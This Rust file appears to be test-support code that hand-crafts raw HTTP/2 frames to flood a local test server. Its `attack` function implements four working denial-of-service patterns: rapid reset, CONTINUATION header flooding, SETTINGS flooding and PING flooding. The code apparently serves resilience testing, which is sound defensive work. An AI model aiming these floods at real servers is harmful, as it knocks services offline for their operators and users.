//! HTTP/2 at its cheapest for the sender: frames by hand.

use super::support::server::Served;
use std::io::Write as _;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM_AND_HEADERS: u8 = 5;

/// Sends as much of it as the server takes, and reads nothing.
pub(crate) fn attack(server: &Served, kind: &str) {
    let mut stream = server.connect();
    stream.set_write_timeout(Some(std::time::Duration::from_secs(2))).unwrap();
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    // `:method GET`, `:scheme http`, `:path /`, of the static table; the authority is this server's.
    let mut head = vec![0x82, 0x86, 0x84, 0x41];
    let host = server.address.to_string();
    head.push(host.len() as u8);
    head.extend(host.bytes());
    match kind {
        "rapid-reset" => {
            for n in 0..10_000_u32 {
                frame(&mut bytes, HEADERS, END_STREAM_AND_HEADERS, 2 * n + 1, &head);
                frame(&mut bytes, RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes());
            }
        }
        "continuation" => {
            frame(&mut bytes, HEADERS, 0, 1, &head);
            // A literal header without a name in the table: `a: bbb…`, again and again.
            let mut more = vec![0x00, 0x01, b'a', 0x7f, 0x81, 0x7d];
            more.resize(more.len() + 16_000, b'b');
            for _ in 0..4_000 {
                frame(&mut bytes, CONTINUATION, 0, 1, &more);
            }
        }
        "settings" => (0..100_000).for_each(|_| frame(&mut bytes, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1])),
        "ping" => (0..100_000).for_each(|_| frame(&mut bytes, PING, 0, 0, &[0; 8])),
        other => panic!("nothing is known of `{other}`"),
    }
    let _ = stream.write_all(&bytes);
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    bytes.extend(&(payload.len() as u32).to_be_bytes()[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}
